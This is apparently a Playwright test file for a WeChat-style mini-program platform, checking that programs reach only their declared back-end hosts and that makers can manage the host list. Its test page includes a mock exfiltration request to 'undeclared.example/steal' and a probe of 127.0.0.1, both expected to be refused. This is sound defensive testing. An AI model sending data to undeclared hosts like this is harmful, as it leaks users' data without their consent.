import { expect, openProgram, Plaza, signIn, test } from "./plaza"
import { Upstream } from "./upstream"
import { teaHouse } from "./zip"

const phone = { viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true }

/** A page as a developer for WeChat writes it, with its own back end and a chat. */
const script = (host: string) => `
const host = ${JSON.stringify(host)}
Page({
	data: { lines: [], shown: "" },
	say(line) { this.setData({ lines: [...this.data.lines, line] }) },
	onLoad() {
		wx.request({
			url: "http://" + host + "/order", method: "POST", data: { tea: "oolong" }, header: { "X-Token": "mine" },
			success: ({ data, statusCode, cookies }) => this.say(["request", statusCode, data.method, data.body, data.token, cookies.length].join(" ")),
			fail: ({ errMsg }) => this.say(errMsg),
		})
		wx.request({ url: "https://undeclared.example/steal", data: { a: 1 }, fail: ({ errMsg }) => this.say("stranger " + errMsg) })
		wx.request({ url: "http://127.0.0.1:1/", fail: ({ errMsg }) => this.say("inside " + errMsg) })
		wx.connectSocket({ url: "wss://undeclared.example" }).onError(({ errMsg }) => this.say("socket " + errMsg))
	},
	upload() {
		const filePath = wx.env.USER_DATA_PATH + "/note.txt"
		wx.getFileSystemManager().writeFileSync(filePath, "a note", "utf8")
		const task = wx.uploadFile({
			url: "http://" + host + "/upload", filePath, name: "note", formData: { who: "told" },
			success: ({ data }) => this.say("upload " + data), fail: ({ errMsg }) => this.say(errMsg),
		})
		task.onProgressUpdate(({ progress }) => progress === 100 && this.say("sent all"))
	},
	download() {
		wx.downloadFile({
			url: "http://" + host + "/file",
			success: ({ tempFilePath }) => {
				const { size } = wx.getFileSystemManager().statSync(tempFilePath)
				this.say("download " + size)
			},
			fail: ({ errMsg }) => this.say(errMsg),
		})
	},
	chat() {
		const socket = wx.connectSocket({ url: "ws://" + host + "/chat" })
		socket.onOpen(() => socket.send({ data: "hello" }))
		socket.onMessage(({ data }) => { this.say("chat " + data); socket.close({ code: 4001, reason: "bye" }) })
		socket.onClose(({ code }) => this.say("closed " + code))
		socket.onError(({ errMsg }) => this.say(errMsg))
	},
	picture() { this.setData({ shown: "http://" + host + "/pixel.png" }) },
	loaded({ detail }) { this.say("picture " + detail.width + "x" + detail.height) },
	unloaded() { this.say("no picture") },
	info() {
		wx.getImageInfo({
			src: "http://" + host + "/pixel.png?info", success: ({ width }) => this.say("info " + width), fail: ({ errMsg }) => this.say(errMsg),
		})
	},
})`

const page_ = `
<button bindtap="upload">Upload</button>
<button bindtap="download">Download</button>
<button bindtap="chat">Chat</button>
<button bindtap="picture">Picture</button>
<button bindtap="info">Info</button>
<image wx:if="{{shown}}" src="{{shown}}" bindload="loaded" binderror="unloaded" />
<view class="back" />
<view wx:for="{{lines}}" wx:key="*this">{{item}}</view>
`

test("a program asks its own back end, and reaches nobody else", async ({ browser }) => {
	const upstream = await Upstream.start()
	const host = `api.tea.test:${upstream.port}`
	const plaza = await Plaza.start(["--proxy-allow", `${host}=127.0.0.1:${upstream.port}`])
	try {
		await plaza.publish(
			"tea-net",
			teaHouse("tea-net", {
				"pages/menu/menu.js": script(host),
				"pages/menu/menu.wxml": page_,
				"pages/menu/menu.wxss": `.back { background-image: url(http://${host}/pixel.png?sheet); height: 10px }`,
			}),
		)
		const page = await (await browser.newContext({ ...phone, locale: "en-GB" })).newPage()
		await signIn(page, `${plaza.url}/sign-in`, "person")
		const refused = await openProgram(page, `${plaza.url}/p/tea-net`)
		// The package names no host, as none of WeChat's does: it reaches nobody until its makers say so.
		await expect(refused.getByText("request:fail url not in domain list").first()).toBeVisible()

		const all = [host]
		const add = { request: all, upload: all, download: all, socket: all }
		await plaza.call("creator", "/api/mp/tea-net/domains", { add })
		await page.goto(`${plaza.url}/`)
		const frame = await openProgram(page, `${plaza.url}/p/tea-net`)
		for (const line of [
			'request 200 POST {"tea":"oolong"} mine 2',
			"stranger request:fail url not in domain list",
			"inside request:fail url not in domain list",
			"socket connectSocket:fail url not in domain list",
		])
			await expect(frame.getByText(line, { exact: true })).toBeVisible()
		for (const [button, lines] of [
			["Upload", ["upload multipart/form-data note.txt told", "sent all"]],
			["Download", ["download 100000"]],
			["Chat", ["chat HELLO", "closed 4001"]],
			["Picture", ["picture 1x1"]],
			["Info", ["info 1"]],
		] as const) {
			await frame.getByText(button, { exact: true }).tap()
			for (const line of lines) await expect(frame.getByText(line, { exact: true })).toBeVisible()
		}
		await expect.poll(() => upstream.asked).toContain("GET /pixel.png?sheet")
		expect(upstream.asked.filter((line) => line.includes("steal"))).toEqual([])

		// People are told which hosts, and the makers what was refused.
		const { domains } = await plaza.call<{ domains: string[] }>("person", "/api/store/tea-net")
		expect(domains).toEqual(all)
		await expect
			.poll(async () =>
				JSON.stringify(await plaza.call("creator", "/api/mp/tea-net/logs?source=network")),
			)
			.toContain("undeclared.example")
	} finally {
		await plaza.stop()
		upstream.stop()
	}
})

test("makers add a host in the console, and take it back", async ({ browser, plaza }) => {
	await plaza.publish("tea-hosts", teaHouse("tea-hosts"))
	const page = await (await browser.newContext({ locale: "en-GB" })).newPage()
	await signIn(page, `${plaza.url}/console/`, "creator")
	await page.goto(`${plaza.url}/console/programs/tea-hosts?tab=settings`)
	const host = page.getByLabel("Host", { exact: true })
	await host.fill("https://")
	await page.getByRole("button", { name: "Add", exact: true }).click()
	await expect(page.getByText(/Write a host like api\.example\.com/)).toBeVisible()
	await host.fill("https://API.tea.example/v1")
	await page.getByRole("button", { name: "Add", exact: true }).click()
	await expect(page.getByText("api.tea.example", { exact: true })).toBeVisible()
	await page.getByRole("button", { name: "Remove api.tea.example" }).click()
	await expect(page.getByText("It reaches no host yet.")).toBeVisible()
	await page.getByRole("button", { name: "Undo" }).click()
	await expect(page.getByText("api.tea.example", { exact: true })).toBeVisible()
})
